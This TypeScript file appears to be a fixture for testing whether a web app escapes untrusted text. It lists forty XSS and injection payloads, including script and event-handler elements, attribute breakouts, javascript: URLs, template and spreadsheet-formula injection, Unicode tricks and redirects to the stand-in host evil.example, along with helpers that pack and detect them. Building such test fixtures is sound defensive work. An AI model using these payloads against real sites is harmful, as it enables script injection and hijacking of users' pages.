/** What each of them calls if it is ever run. */
export const BEACON = '__ran';

/** Nobody answers there; a request to it is a payload that got through. */
export const ELSEWHERE = 'evil.example';

/**
 * Texts that run, load or lead away where a page lets them out unescaped: as elements, out of an attribute or another
 * element, as an address, for a template, as markdown, in a cell, and in characters that are read as others. The number
 * in each says which one it was. All of them together fit the shortest of the long texts, 2,000 characters.
 */
export const PAYLOADS: readonly string[] = [
  // Elements.
  '<script>__ran(1)</script>',
  '<img src=x onerror=__ran(2)>',
  '<svg onload=__ran(3)>',
  '<svg><script>__ran(4)</script></svg>',
  '<svg><animate onbegin=__ran(5) attributeName=x dur=1s>',
  '<body onload=__ran(6)>',
  '<input autofocus onfocus=__ran(7)>',
  '<details open ontoggle=__ran(8)>',
  '<video><source onerror=__ran(9)></video>',
  '<iframe src=javascript:parent.__ran(10)></iframe>',
  "<iframe srcdoc='<script>__ran(11)</script>'></iframe>",
  '<object data=javascript:__ran(12)>',
  '<math><mtext><img src onerror=__ran(13)>',
  '<IMG/SRC/oNeRrOr=__ran(14)//>',
  // Out of what they stand in.
  '"><script>__ran(15)</script>',
  "'><img src=x onerror=__ran(16)>",
  '</script><script>__ran(17)</script>',
  '</title><svg/onload=__ran(18)>',
  '</textarea><svg onload=__ran(19)>',
  '</style><img src onerror=__ran(20)>',
  '--><svg onload=__ran(21)>',
  '" autofocus onfocus="__ran(22)',
  "' onmouseover='__ran(23)",
  '"};__ran(24);//',
  "'-__ran(25)-'",
  // Addresses.
  'javascript:__ran(26)',
  'java\tscript:__ran(27)',
  '<a href=JaVaScRiPt:__ran(28)>x</a>',
  'data:text/html,<script>__ran(29)</script>',
  // For a template, markdown, a cell.
  "{{constructor.constructor('__ran(30)')()}}",
  '${__ran(31)}',
  "{@html '<svg onload=__ran(32)>'}",
  '[x](javascript:__ran(33)) ![x](x"onerror="__ran(33))',
  '=HYPERLINK("javascript:__ran(34)","<b>34</b>")',
  // Styles and what is loaded or led away.
  '<style>@import "//evil.example/35"</style>',
  '<link rel=stylesheet href=//evil.example/36>',
  '<meta http-equiv=refresh content=0;//evil.example/37>',
  '<base href=//evil.example/38/>',
  // Characters that are read as others.
  '\u202e\u200b<svg onload=__ran(39)>\u2028__ran(39)',
  '&lt;script&gt;__ran(40)&lt;/script&gt; ＜script＞',
];

const LONG = 2_000;
const SHORT = 200;

/** All of them, as many after one another as a text may be long. */
const packed = (longest: number, between: string): readonly string[] => {
  const texts: string[] = [];
  for (const payload of PAYLOADS) {
    const last = texts.at(-1);
    const both = last === undefined ? undefined : last + between + payload;
    if (both !== undefined && both.length <= longest) texts[texts.length - 1] = both;
    else texts.push(payload);
  }
  return texts;
};

/** Texts of at most 200 characters that hold all of them among them, each beginning with another. */
export const SHORT_TEXTS = packed(SHORT, ' ');

/** All of them in one text of at most 2,000 characters, the nth first. */
export const longText = (nth: number): string => {
  const turn = nth % PAYLOADS.length;
  const text = [...PAYLOADS.slice(turn), ...PAYLOADS.slice(0, turn)].join('\n');
  if (text.length > LONG) throw new Error(`all payloads together have ${text.length} characters`);
  return text;
};

/** Which of them stand in a text, from 0. */
export const payloadsIn = (text: string): readonly number[] =>
  PAYLOADS.flatMap((payload, nth) => (text.includes(payload) ? [nth] : []));
